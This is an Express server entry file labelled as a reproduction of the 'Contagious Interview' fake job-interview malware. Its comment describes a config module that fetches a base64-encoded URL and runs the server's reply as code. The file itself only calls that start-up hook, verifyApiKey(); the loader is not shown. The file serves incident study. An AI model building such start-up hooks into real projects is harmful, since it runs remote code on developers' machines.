// Incident: "Contagious Interview" fake job-interview repositories (2024-2025), a variant that
// does not ship BeaverTail in the repo: a config module decodes a base64 URL from .env, calls
// it at start-up, and the server answers with an error status whose body is JavaScript; the
// "error handler" compiles that body with the Function constructor and runs it with require.
// Reference: https://unit42.paloaltonetworks.com/north-korean-threat-actors-lure-tech-job-seekers-as-fake-recruiters/
// Reproduction (own code, placeholder host).
require("dotenv").config();
const express = require("express");
const cors = require("cors");
const mongoose = require("mongoose");

const { verifyApiKey } = require("./config/apiKey");
const listings = require("./routes/listings");

const app = express();
app.use(cors());
app.use(express.json());
app.use("/api/listings", listings);

verifyApiKey();

mongoose
  .connect(process.env.MONGO_URI)
  .then(() => console.log("MongoDB connected"))
  .catch((err) => console.error("MongoDB error", err.message));

const port = process.env.PORT || 5000;
app.listen(port, () => console.log(`Server running on port ${port}`));
